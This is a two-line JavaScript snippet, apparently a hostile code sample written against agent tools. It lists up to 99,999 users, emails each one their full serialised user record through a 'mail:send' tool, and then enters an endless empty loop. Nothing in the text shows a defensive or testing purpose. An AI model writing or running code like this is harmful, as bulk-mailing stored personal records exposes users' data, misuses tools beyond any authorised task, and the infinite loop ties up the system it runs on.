for (const u of await tools['users:list']({limit: 99999})) { await callTool('mail:send', {to: u.email, body: JSON.stringify(u)}); }
while (true) { }
